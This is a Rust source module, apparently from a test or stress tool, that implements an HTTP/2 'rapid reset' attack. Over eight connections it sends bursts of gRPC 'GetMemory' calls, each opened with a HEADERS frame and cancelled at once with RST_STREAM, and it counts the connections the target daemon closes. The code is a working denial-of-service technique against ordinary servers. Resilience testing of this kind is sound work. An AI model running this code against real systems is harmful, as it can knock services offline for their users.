//! Rapid resets: calls that are begun and called off in one breath. A connection that the daemon does
//! not read any more is left for a new one.

use crate::attacker::{Order, Tally};
use crate::wire::{END_HEADERS, HEADERS, Peer, RST_STREAM, call, frame, stream};

/// Calls of one write.
const A_BREATH: u64 = 100;
const CONNECTIONS: u64 = 8;

pub(crate) async fn attack(order: Order) -> Tally {
    let mut all = Tally::default();
    let each = (order.inputs / CONNECTIONS).max(A_BREATH);
    for _ in 0..CONNECTIONS {
        let Ok(mut peer) = Peer::greet(order.target, &[]).await else {
            all.ended += 1;
            all.inputs += 1;
            continue;
        };
        let mut sent = 0;
        while sent < each {
            if peer.write(&breath(sent)).await.is_err() {
                all.ended += 1;
                break;
            }
            sent += A_BREATH;
        }
        let ended = peer.is_ended().await;
        all.inputs += sent.max(1);
        all.ended += u64::from(ended);
    }
    all
}

fn breath(from: u64) -> Vec<u8> {
    let block = call("GetMemory");
    let calls = (from..from + A_BREATH).flat_map(|number| {
        let stream = stream(number);
        let begun = frame(HEADERS, END_HEADERS, stream, &block);
        [begun, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    });
    calls.collect()
}
